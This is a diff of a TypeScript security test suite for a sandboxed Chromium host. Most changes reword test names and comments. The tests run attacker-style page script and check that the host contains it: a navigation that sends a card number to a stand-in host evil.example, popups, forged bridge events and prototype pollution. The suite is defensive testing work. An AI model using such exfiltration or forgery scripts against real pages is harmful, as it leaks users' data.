@@ -1,6 +1,6 @@
 /**
  * Script in the page, as an attacker would have it, against the Chromium host: nothing leaves, nothing opens, nothing
- * is pretended.
+ * is forged.
  */
 import { createSocket } from 'node:dgram';
 import { existsSync, readFileSync, readdirSync } from 'node:fs';
@@ -20,7 +20,7 @@ let shell: ChromiumShell;
 let window: ChromiumWindow;
 let blocked: Blocked[];
 const calls: Call[] = [];
-/** Connections and datagrams that reached a listener of ours on loopback: whatever left the browser. */
+/** Connections and datagrams that reached a listener of the test on loopback: everything that left the browser. */
 const escaped: string[] = [];
 const tcp = createServer((socket) => {
   escaped.push('tcp');
@@ -79,7 +79,7 @@ afterAll(async () => {
   udp.close();
 });
 
-describe('the headers hold', () => {
+describe('the headers are enforced', () => {
   test('the page is a secure context of its own origin, with its script and without inline script', async () => {
     expect(await evaluate('[location.origin, isSecureContext, window.loaded, window.inline].join()')).toBe(
       `${window.origin},true,true,`,
@@ -182,7 +182,7 @@ describe('nothing leaves', () => {
     expect(escaped).toEqual([]);
   });
 
-  test('a navigation is told with the host it wanted and no more, and the page stays', async () => {
+  test('a navigation is reported with the requested host and no more, and the page stays', async () => {
     await evaluate('void (window.mark = 1)');
     await attempt(
       'location.href = "https://evil.example/path?card=4111"; await new Promise((r) => setTimeout(r, 300))',
@@ -192,27 +192,30 @@ describe('nothing leaves', () => {
     expect(await evaluate('window.mark')).toBe(1);
   });
 
-  test.each(['about:blank', 'blob:'])('a page that moves itself to %s is brought back and told', async (where) => {
-    await evaluate(
-      where === 'blob:'
-        ? 'void setTimeout(() => { location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" })) })'
-        : 'void setTimeout(() => { location.href = "about:blank" })',
-    );
-    await eventually(
-      () => blocked,
-      (all) => all.some((one) => one.what === 'navigation' || one.what === 'download'),
-    );
-    expect(
+  test.each(['about:blank', 'blob:'])(
+    'a page that navigates itself to %s is brought back and reported',
+    async (where) => {
+      await evaluate(
+        where === 'blob:'
+          ? 'void setTimeout(() => { location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" })) })'
+          : 'void setTimeout(() => { location.href = "about:blank" })',
+      );
       await eventually(
-        () => evaluate('location.href + typeof window.cleandesk').catch(() => ''),
-        (there) => there === `${window.origin}/object`,
-      ),
-    ).toBe(`${window.origin}/object`);
-  });
+        () => blocked,
+        (all) => all.some((one) => one.what === 'navigation' || one.what === 'download'),
+      );
+      expect(
+        await eventually(
+          () => evaluate('location.href + typeof window.cleandesk').catch(() => ''),
+          (there) => there === `${window.origin}/object`,
+        ),
+      ).toBe(`${window.origin}/object`);
+    },
+  );
 });
 
-describe('a page that keeps moving', () => {
-  test('is brought back each time, also when it moves while it is still being brought back', async () => {
+describe('a page that keeps navigating', () => {
+  test('is brought back each time, also when it navigates again while it is being brought back', async () => {
     for (let round = 0; round < 8; round += 1) {
       blocked.length = 0;
       await evaluate(
@@ -225,7 +228,7 @@ describe('a page that keeps moving', () => {
         () => blocked,
         (all) => all.some((one) => one.what === 'navigation'),
       );
-      // At the first moment that the page can be asked, it moves again.
+      // It navigates again as soon as the page can run script.
       expect(
         await eventually(
           () => evaluate('location.href').catch(() => ''),
@@ -238,7 +241,7 @@ describe('a page that keeps moving', () => {
 });
 
 describe('nothing opens', () => {
-  test('a popup is closed and told, and the page goes on', async () => {
+  test('a popup is closed and reported, and the page goes on', async () => {
     await attempt('window.open("about:blank"); window.open("https://evil.example/")');
     await eventually(
       () => blocked.filter((one) => one.what === 'popup').map((one) => one.target),
@@ -251,7 +254,7 @@ describe('nothing opens', () => {
     expect(await evaluate('1 + 1')).toBe(2);
   });
 
-  test('a dialog is dismissed and told', async () => {
+  test('a dialog is dismissed and reported', async () => {
     expect(await evaluate('[alert("x"), confirm("x"), prompt("x")].join()')).toBe(',false,');
     expect(blocked.map((one) => one.target)).toEqual(['alert', 'confirm', 'prompt']);
   });
@@ -311,11 +314,11 @@ describe('nothing opens', () => {
     ['files', 'await showOpenFilePicker(); return "granted"'],
     ['local fonts', 'await queryLocalFonts(); return "granted"'],
     ['full screen', 'await document.documentElement.requestFullscreen(); return "granted"'],
-  ])('%s is not given', async (_name, script) => {
+  ])('%s is denied', async (_name, script) => {
     expect(await attempt(script)).toMatch(/^(denied|refused: \w+)$/);
   });
 
-  test('printing does nothing but tell, in the page and in a frame of its making', async () => {
+  test('printing does nothing but report, in the page and in a frame that it makes', async () => {
     await evaluate(
       'void (() => { addEventListener("beforeprint", () => { window.printed = true }); window.print(); const f = ' +
         'document.createElement("iframe"); document.body.append(f); f.contentWindow.print() })()',
@@ -330,7 +333,7 @@ describe('nothing opens', () => {
     ).toBe('function');
   });
 
-  test('a frame is told and taken away', async () => {
+  test('a frame is reported and removed', async () => {
     await evaluate('void document.body.append(document.createElement("iframe"))');
     await eventually(
       () => evaluate('document.querySelectorAll("iframe").length'),
@@ -340,8 +343,8 @@ describe('nothing opens', () => {
   });
 });
 
-describe('nothing is pretended', () => {
-  test('a call from a frame says that it comes from a frame', async () => {
+describe('nothing is forged', () => {
+  test('a call from a frame is marked as one from a frame', async () => {
     await evaluate(
       '(async () => { const f = document.createElement("iframe"); f.src = "about:blank"; ' +
         'document.body.append(f); f.contentWindow.cleandesk?.getState({ from: "frame" }); await new Promise((r) => ' +
@@ -368,7 +371,7 @@ describe('nothing is pretended', () => {
       (name) => name !== '',
     );
     calls.length = 0;
-    // As if the browser spoke of a world that was never announced.
+    // As if the browser reported a world that was never announced.
     window.page.emit('Runtime.bindingCalled', {
       name: names.binding,
       payload: JSON.stringify({ kind: 'call', id: 1, verb: 'getState', args: {} }),
@@ -397,7 +400,7 @@ describe('nothing is pretended', () => {
     ).toBe(true);
   });
 
-  test('polluted prototypes and replaced built-ins neither break a call nor hand out the passage', async () => {
+  test('polluted prototypes and replaced built-ins neither break a call nor reveal the channel', async () => {
     expect(
       await evaluate(`(async () => {
       const seen = [];
@@ -418,7 +421,7 @@ describe('nothing is pretended', () => {
     await window.reset();
   });
 
-  test('a page cannot raise an event of the bridge: only what main pushes is heard', async () => {
+  test('a page cannot raise an event of the bridge: only what main pushes arrives', async () => {
     await evaluate(
       'void (() => { window.heard.length = 0; for (const target of [window, document]) { ' +
         'target.dispatchEvent(new CustomEvent("main", { detail: { k: "call", n: 1, args: {} } })); ' +
@@ -447,7 +450,7 @@ describe('nothing is pretended', () => {
     expect(calls.filter((call) => call.verb === 'getState').map((call) => call.args)).toEqual([]);
   });
 
-  test("a synthetic copy by a script is told apart from a person's", async () => {
+  test("a synthetic copy by a script is distinguished from a person's", async () => {
     await evaluate('void document.body.dispatchEvent(new ClipboardEvent("copy", { bubbles: true }))');
     const report = await eventually(
       () => calls.find((call) => call.verb === 'reportBlocked'),
@@ -456,7 +459,7 @@ describe('nothing is pretended', () => {
     expect(report?.args).toMatchObject({ what: 'copy', trusted: false });
   });
 
-  test('a script in a loop is told of, but not a thousand times', async () => {
+  test('repeated calls of a script in a loop are reported, but not a thousand times', async () => {
     await evaluate(
       'void (() => { for (let n = 0; n < 1000; n += 1) document.body.dispatchEvent(new ClipboardEvent("copy", { ' +
         'bubbles: true })) })()',
@@ -481,7 +484,7 @@ describe('nothing remains', () => {
     return chunks.join('');
   };
 
-  test('after a reset another process draws the page, and its heap holds nothing of what was there', async () => {
+  test('after a reset another process renders the page, and its heap contains nothing of the former one', async () => {
     const needle = ['quartz', 'finch', '7261'].join('-');
     window.push('notice', { text: needle });
     await eventually(
@@ -496,13 +499,13 @@ describe('nothing remains', () => {
     expect(await heap()).not.toContain(needle);
   });
 
-  test('after a reset nothing is left of what a script put into the storage of the tab', async () => {
+  test('after a reset nothing is left of what a script wrote into the storage of the tab', async () => {
     await evaluate('sessionStorage.setItem("left", "by a script")');
     await window.reset();
     expect(await evaluate('sessionStorage.length')).toBe(0);
   });
 
-  test('a renderer that crashes is told once, and a reset brings the page back', async () => {
+  test('a crashed renderer is reported once, and a reset brings the page back', async () => {
     const crashes: string[] = [];
     window.onCrash(() => crashes.push('crash'));
     window.page.tell('Page.crash');
